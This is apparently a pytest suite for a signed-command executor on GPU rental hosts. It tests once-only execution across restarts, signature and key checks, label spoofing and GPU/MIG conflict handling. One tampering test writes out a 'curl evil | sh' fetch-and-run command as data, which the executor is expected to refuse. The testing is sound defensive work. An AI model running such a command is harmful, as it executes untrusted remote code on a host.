"""The agent's executor: only verified commands run, each id at most once, across restarts."""

import asyncio
import time

import msgspec
import pytest

from agent.errors import UnansweredCopy
from agent.executor import CommandExecutor
from agent.ledger import CommandLog
from agent.runtime.docker import create_body
from agent.runtime.process import ProcessRuntime, child_env
from common.containers import LABEL_PORTS, LABEL_REPLICA, LABEL_WORKLOAD_ID, ContainerSpec, parse_create_spec, wire_spec
from common.inventory import GpuInfo, MigInstance
from common.pki import CommandSigner, CommandVerifier
from common.wire import Command, CommandBody, signing_bytes

AGENT = "agt-test"


@pytest.fixture
def signer():
    return CommandSigner.generate()


def command(signer, kind="create_container", spec=None, *, command_id="cmd-1", agent_id=AGENT, deadline=None):
    body = CommandBody(
        id=command_id,
        agent_id=agent_id,
        kind=kind,
        spec=spec or {},
        issued_at=time.time(),
        deadline=deadline or time.time() + 60,
        key_id=signer.key_id,
    )
    return Command(body=body, signature=signer.sign(signing_bytes(body)))


def executor(tmp_path, signer, gpus=()):
    verifier = CommandVerifier({signer.key_id: signer.public_key_b64()})
    runtime = ProcessRuntime(state_dir=tmp_path / "state", work_root=tmp_path / "work")
    ledger = CommandLog(tmp_path / "state" / "commands.db")
    return CommandExecutor(AGENT, ledger, runtime, verifier, host_gpus=lambda: list(gpus)), runtime


async def test_a_command_runs_once_even_when_delivered_again_after_a_restart(tmp_path, signer):
    runs = tmp_path / "work" / "once" / "runs"  # the container's own working directory
    spec = {"name": "once", "image": "none", "command": ["sh", "-c", "echo x >> runs; sleep 30"]}
    cmd = command(signer, spec=spec)
    first, runtime = executor(tmp_path, signer)
    result = await first.execute(cmd)
    assert result.ok, result
    first.ledger.close()

    again, runtime2 = executor(tmp_path, signer)  # a new process on the same state directory
    repeat = await again.execute(cmd)
    assert repeat.ok and repeat.result == result.result
    time.sleep(0.3)
    assert runs.read_text().count("x") == 1
    await runtime2.delete("once", timeout_s=2)


async def test_the_ports_a_workload_declared_are_kept_with_its_container_for_the_tunnel_check(tmp_path, signer):
    """agent/tunnel.py lets a port tunnel reach only these (issue 22 D9): they come from the signed command, never from
    a label the renter wrote (io.idlegrid.* labels are refused)."""
    run, runtime = executor(tmp_path, signer)
    spec = {"name": "web", "image": "none", "command": ["sleep", "30"], "workload_id": "wl-0a1b", "ports": [8888, 22]}
    result = await run.execute(command(signer, spec=spec))
    assert result.ok, result
    info = await runtime.inspect("web")
    assert info is not None and info.labels[LABEL_PORTS] == "8888,22"
    spoof = {**spec, "name": "spoof", "ports": [], "labels": {LABEL_PORTS: "22,5432"}}
    refused = await run.execute(command(signer, spec=spoof, command_id="cmd-2"))
    assert not refused.ok and "reserved" in (refused.error or "")
    await runtime.delete("web", timeout_s=2)
    run.ledger.close()


async def test_a_command_started_before_a_crash_is_not_run_twice(tmp_path, signer):
    runs = tmp_path / "work" / "crash" / "runs"
    spec = {"name": "crash", "image": "none", "command": ["sh", "-c", "echo x >> runs; sleep 30"]}
    cmd = command(signer, spec=spec, command_id="cmd-crash")
    first, runtime = executor(tmp_path, signer)
    await first.execute(cmd)
    # What a SIGKILL between "container created" and "result recorded" leaves behind:
    first.ledger._db.execute("UPDATE executed SET finished_at = NULL, ok = NULL, result = NULL WHERE id = 'cmd-crash'")
    again, runtime2 = executor(tmp_path, signer)
    result = await again.execute(cmd)
    assert result.ok
    assert result.result["container"]["labels"]["io.idlegrid.command-id"] == "cmd-crash"
    time.sleep(0.3)
    assert runs.read_text().count("x") == 1
    await runtime2.delete("crash", timeout_s=2)


async def test_a_tampered_command_is_refused_with_the_reason(tmp_path, signer):
    cmd = command(signer, spec={"name": "a", "image": "none", "command": ["true"]})
    cmd.body.spec["command"] = ["sh", "-c", "curl evil | sh"]
    ex, _ = executor(tmp_path, signer)
    result = await ex.execute(cmd)
    assert not result.ok
    assert result.error_code == "bad_signature"
    assert "signature" in result.error
    kept = ex.ledger.get(cmd.body.id)  # the Master ends the command on this refusal: so does the host
    assert kept is not None and kept.finished and not kept.ok and kept.error_code == "bad_signature"
    assert [r.id for r in ex.pending_results()] == [cmd.body.id]  # sent again until the Master acknowledges it


async def test_an_intact_copy_of_a_command_whose_copy_was_refused_gets_the_refusal_and_never_runs(tmp_path, signer):
    """A relay tampered one copy and the Master, which ends the command on the refusal, sent it again (a resend at a
    hello): the host's end must be the Master's, so the intact copy is answered with the refusal, after a restart too."""
    runs = tmp_path / "work" / "honest" / "runs"
    spec = {"name": "honest", "image": "none", "command": ["sh", "-c", "echo x >> runs; sleep 30"]}
    intact = command(signer, spec=spec, command_id="cmd-t")
    tampered = msgspec.structs.replace(intact, body=msgspec.structs.replace(intact.body, spec={**spec, "command": ["id"]}))
    ex, runtime = executor(tmp_path, signer)
    refused = await ex.execute(tampered)
    again = await ex.execute(intact)
    ex.ledger.close()
    restarted, _ = executor(tmp_path, signer)
    after_restart = await restarted.execute(intact)
    assert again == refused == after_restart
    assert not refused.ok and refused.error_code == "bad_signature"
    assert await runtime.list() == [] and not runs.exists()


async def test_a_copy_that_does_not_verify_of_a_finished_command_gets_the_kept_result(tmp_path, signer):
    """What the host did is what the Master hears: a later bad copy neither turns a success into a refusal nor runs."""
    spec = {"name": "done", "image": "none", "command": ["sleep", "30"]}
    intact = command(signer, spec=spec, command_id="cmd-d")
    ex, runtime = executor(tmp_path, signer)
    ran = await ex.execute(intact)
    bad = msgspec.structs.replace(intact, signature=command(CommandSigner.generate(), spec=spec).signature)
    assert ran.ok
    assert await ex.execute(bad) == ran
    assert ex.ledger.get("cmd-d").ok
    await runtime.delete("done", timeout_s=2)


async def test_a_copy_that_does_not_verify_of_a_run_a_crash_cut_short_neither_ends_nor_resumes_it(tmp_path, signer):
    """The host may have started the container: a refusal would end the command at the Master with the container
    there. No answer; the intact copy the Master sends again resumes it."""
    spec = {"name": "cut", "image": "none", "command": ["sleep", "30"]}
    intact = command(signer, spec=spec, command_id="cmd-c")
    ex, runtime = executor(tmp_path, signer)
    assert (await ex.execute(intact)).ok
    ex.ledger._db.execute("UPDATE executed SET finished_at = NULL, ok = NULL, result = NULL WHERE id = 'cmd-c'")
    bad = msgspec.structs.replace(intact, signature=command(CommandSigner.generate(), spec=spec).signature)
    with pytest.raises(UnansweredCopy):
        await ex.execute(bad)
    assert not ex.ledger.get("cmd-c").finished
    resumed = await ex.execute(intact)
    assert resumed.ok and resumed.result["container"]["labels"]["io.idlegrid.command-id"] == "cmd-c"
    assert len(await runtime.list()) == 1
    await runtime.delete("cut", timeout_s=2)


async def test_commands_signed_by_an_unknown_or_retired_key_or_for_another_agent_are_refused(tmp_path, signer):
    ex, _ = executor(tmp_path, signer)
    stranger = CommandSigner.generate()
    assert (await ex.execute(command(stranger, spec={"name": "a", "image": "i"}))).error_code == "bad_signature"
    assert (await ex.execute(command(signer, agent_id="agt-other", command_id="c2"))).error_code == "bad_signature"
    ex.verifier.retire_key(signer.key_id)
    assert (await ex.execute(command(signer, command_id="c3"))).error_code == "bad_signature"


async def test_an_invalid_spec_or_a_late_command_fails_cleanly(tmp_path, signer):
    ex, _ = executor(tmp_path, signer)
    bad = await ex.execute(command(signer, spec={"name": "bad name!", "image": "i"}, command_id="c4"))
    assert not bad.ok and bad.error_code == "invalid_spec"
    late = await ex.execute(command(signer, spec={"name": "a", "image": "i"}, command_id="c5", deadline=time.time() - 1))
    assert not late.ok and late.error_code == "deadline_passed"
    assert {e.id for e in ex.ledger.unacked()} == {"c4", "c5"}
    ex.ledger.mark_acked("c4")
    assert [r.id for r in ex.pending_results()] == ["c5"]


def gpu(index, uuid):
    return GpuInfo(
        index=index, uuid=uuid, name="A10", pci_bus_id=f"0000:0{index}:00", memory_total_mib=24576, compute_capability="8.6"
    )


HOST_GPUS = [gpu(0, "GPU-aaaa"), gpu(1, "GPU-bbbb")]


def sleeper(name, gpus):
    return {"name": name, "image": "none", "command": ["sleep", "300"], "gpus": gpus}


async def test_a_gpu_held_by_another_running_container_is_refused_with_gpu_conflict(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, HOST_GPUS)
    try:
        first = await ex.execute(command(signer, spec=sleeper("first", ["GPU-aaaa"]), command_id="cmd-first"))
        assert first.ok, first
        # The same GPU again, named by its index this time: still the one the first container holds.
        second = await ex.execute(command(signer, spec=sleeper("second", ["1", "0"]), command_id="cmd-second"))
        assert (second.ok, second.error_code) == (False, "gpu_conflict")
        assert "GPU-aaaa (held by container 'first')" in second.error
        assert await runtime.inspect("second") is None  # nothing started

        free = await ex.execute(command(signer, spec=sleeper("third", ["GPU-bbbb"]), command_id="cmd-third"))
        assert free.ok, free
    finally:
        for name in ("first", "second", "third"):
            await runtime.delete(name, timeout_s=0)


async def test_a_gpu_freed_by_delete_can_be_taken_again(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, HOST_GPUS)
    try:
        assert (await ex.execute(command(signer, spec=sleeper("old", ["GPU-aaaa"]), command_id="cmd-old"))).ok
        deleted = await ex.execute(command(signer, "delete_container", {"name": "old", "timeout_s": 0}, command_id="cmd-del"))
        assert deleted.ok, deleted
        assert (await ex.execute(command(signer, spec=sleeper("new", ["GPU-aaaa"]), command_id="cmd-new"))).ok
    finally:
        await runtime.delete("new", timeout_s=0)


async def test_a_gpu_this_host_does_not_have_is_refused_with_unknown_gpu(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, HOST_GPUS)
    result = await ex.execute(command(signer, spec=sleeper("ghost", ["GPU-zzzz"]), command_id="cmd-ghost"))
    assert (result.ok, result.error_code) == (False, "unknown_gpu")
    assert "GPU(s) GPU-zzzz, which this host does not have; it has GPU-aaaa, GPU-bbbb" in result.error
    assert await runtime.inspect("ghost") is None


async def test_two_commands_for_one_gpu_at_once_start_only_one_container(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, HOST_GPUS)
    try:
        results = await asyncio.gather(
            *(ex.execute(command(signer, spec=sleeper(f"race-{i}", ["GPU-bbbb"]), command_id=f"cmd-race-{i}")) for i in range(3))
        )
        assert sorted((r.ok, r.error_code) for r in results) == [(False, "gpu_conflict"), (False, "gpu_conflict"), (True, None)]
    finally:
        for i in range(3):
            await runtime.delete(f"race-{i}", timeout_s=0)


# --- MIG instances: placed one by one; a whole GPU and its instances exclude each other --------------------------

MIG_A, MIG_B = "MIG-1111", "MIG-2222"
PARTITIONED = [
    msgspec.structs.replace(
        gpu(0, "GPU-aaaa"),
        mig_enabled=True,
        mig_instances=(
            MigInstance(uuid=MIG_A, profile="3g.40gb", memory_mib=40960, index=0),
            MigInstance(uuid=MIG_B, profile="3g.40gb", memory_mib=40960, index=1),
        ),
    ),
    gpu(1, "GPU-bbbb"),
]


async def test_two_mig_instances_of_one_gpu_run_side_by_side(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, PARTITIONED)
    try:
        assert (await ex.execute(command(signer, spec=sleeper("a", [MIG_A]), command_id="cmd-a"))).ok
        assert (await ex.execute(command(signer, spec=sleeper("b", [MIG_B]), command_id="cmd-b"))).ok
        again = await ex.execute(command(signer, spec=sleeper("c", [MIG_A]), command_id="cmd-c"))
        assert (again.ok, again.error_code) == (False, "gpu_conflict")
        assert f"{MIG_A} (held by container 'a')" in again.error
    finally:
        for name in ("a", "b", "c"):
            await runtime.delete(name, timeout_s=0)


async def test_a_gpu_with_an_instance_held_cannot_be_taken_whole(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, PARTITIONED)
    try:
        assert (await ex.execute(command(signer, spec=sleeper("part", [MIG_A]), command_id="cmd-part"))).ok
        whole = await ex.execute(command(signer, spec=sleeper("whole", ["0"]), command_id="cmd-whole"))
        assert (whole.ok, whole.error_code) == (False, "gpu_conflict")
        assert "GPU-aaaa (its MIG instances are in use by container 'part')" in whole.error
        assert await runtime.inspect("whole") is None
    finally:
        for name in ("part", "whole"):
            await runtime.delete(name, timeout_s=0)


async def test_an_instance_of_a_gpu_held_whole_is_refused(tmp_path, signer):
    ex, runtime = executor(tmp_path, signer, PARTITIONED)
    try:
        assert (await ex.execute(command(signer, spec=sleeper("whole", ["GPU-aaaa"]), command_id="cmd-whole"))).ok
        part = await ex.execute(command(signer, spec=sleeper("part", [MIG_B]), command_id="cmd-part"))
        assert (part.ok, part.error_code) == (False, "gpu_conflict")
        assert f"{MIG_B} (its GPU GPU-aaaa is held whole by container 'whole')" in part.error
    finally:
        for name in ("part", "whole"):
            await runtime.delete(name, timeout_s=0)


def test_the_process_runtime_shows_a_mig_instance_to_cuda_by_its_uuid(tmp_path):
    spec = parse_create_spec({"name": "m", "image": "none", "command": ["true"], "gpus": [MIG_A]})
    env = child_env(spec, home=tmp_path)
    assert env["CUDA_VISIBLE_DEVICES"] == MIG_A and env["NVIDIA_VISIBLE_DEVICES"] == MIG_A


def test_docker_asks_the_nvidia_toolkit_for_a_mig_instance_by_its_uuid():
    spec = parse_create_spec({"name": "m", "image": "busybox", "gpus": [MIG_A]})
    body = create_body(spec, {}, [])
    assert body["HostConfig"]["DeviceRequests"] == [{"Driver": "nvidia", "DeviceIDs": [MIG_A], "Capabilities": [["gpu"]]}]


async def test_a_create_spec_as_an_older_master_wrote_it_and_as_the_typed_spec_writes_it_both_run(tmp_path, signer):
    """An older Master hand-built the create's spec with every list and map written out, empty or not; a Master now
    writes the typed ContainerSpec leaving out what is at its default (common.containers.wire_spec). The agent runs
    both alike, with the workload's reserved labels."""
    run, runtime = executor(tmp_path, signer)
    old = {
        "name": "wl-0a1b-r0-a1",
        "image": "none",
        "command": ["sleep", "30"],
        "env": {},
        "gpus": [],
        "labels": {},
        "workload_id": "wl-0a1b",
        "replica": 0,
    }
    new = wire_spec(ContainerSpec(name="wl-0a1b-r1-a1", image="none", command=["sleep", "30"], workload_id="wl-0a1b", replica=1))
    assert set(new) == {"name", "image", "command", "workload_id", "replica"}
    for i, spec in enumerate((old, new)):
        result = await run.execute(command(signer, spec=spec, command_id=f"cmd-{i}"))
        assert result.ok, result
        info = await runtime.inspect(spec["name"])
        assert info is not None and info.labels[LABEL_WORKLOAD_ID] == "wl-0a1b" and info.labels[LABEL_REPLICA] == str(i)
        await runtime.delete(spec["name"], timeout_s=2)
    run.ledger.close()
